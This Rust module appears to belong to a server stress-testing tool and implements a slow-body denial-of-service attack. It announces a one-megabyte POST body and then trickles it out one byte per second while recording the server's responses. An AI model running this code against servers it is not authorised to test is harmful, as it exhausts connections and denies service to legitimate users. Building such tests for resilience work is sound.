//! Slow body: content that was announced and comes by a byte at a time.

use std::time::Duration;

use super::door::Speaks;
use super::ground::Ground;
use super::slow_headers::status_of;

/// From one byte to the next.
const INTERVAL: Duration = Duration::from_secs(1);

/// The announced length.
const LENGTH: u32 = 1_000_000;

pub(super) async fn attack(ground: &Ground<'_>) {
    let Some(mut stream) = ground.open(Speaks::Http1, None).await else {
        return;
    };
    let endpoint = ground.door.endpoint();
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: {LENGTH}\r\n\r\n",
        endpoint.path_and_query(),
        endpoint.authority()
    );
    let mut piece = head.into_bytes();
    let mut buffer = [0; 1024];
    while ground.leave(1).await.is_some() {
        if ground.send(&mut stream, &piece).await.is_err() {
            ground.tally.ended();
            return;
        }
        ground.tally.sent(1);
        piece = b"x".to_vec();
        match ground.read(&mut stream, &mut buffer, INTERVAL).await {
            Some(0) => return ground.tally.ended(),
            Some(_) => ground.tally.status(status_of(&buffer)),
            None => {}
        }
    }
}
